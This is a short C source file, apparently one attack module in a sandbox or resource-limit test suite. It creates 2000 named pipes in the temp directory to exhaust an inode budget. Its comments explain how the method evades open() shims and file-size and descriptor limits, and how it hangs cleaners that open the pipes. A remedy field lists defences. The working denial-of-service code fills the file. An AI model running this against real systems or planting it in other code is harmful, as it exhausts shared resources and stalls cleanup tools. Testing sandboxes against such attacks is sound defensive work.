// SPDX-License-Identifier: MIT
/*
 * fifos.c - a disk bomb that opens no file.
 *
 * Goal: more inodes than the budget.
 * Means: mknodat(2) makes 2000 named pipes. No open(2), no descriptor, no byte: a shim on open(),
 * RLIMIT_NOFILE and RLIMIT_FSIZE are not asked, and a cleaner that opens what it finds hangs.
 */
#include "attacks/attack.h"

#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>

#define FIFOS 2000

static enum claim run(const struct brief *b)
{
	char name[64];

	if (chdir(getenv("TMPDIR") ?: "/tmp"))
		return failed("chdir");
	attempting(b);
	for (int i = 0; i < FIFOS; i++) {
		snprintf(name, sizeof(name), "%s.%d", b->name, i);
		if (mkfifo(name, 0600))
			return denied("mkfifo");
	}
	return hold();
}

const struct attack attack = {
	.effect = "more inodes than the budget",
	.means = "2000 named pipes: an inode each, and not one open(2)",
	.oracle = "usage:inodes",
	.id = "DISK-09",
	.attack_id = "T1499.001, CWE-400",
	.remedy = "deny mknod and mknodat; a quota on inodes, or a watch on statvfs' f_ffree",
	.run = run,
};
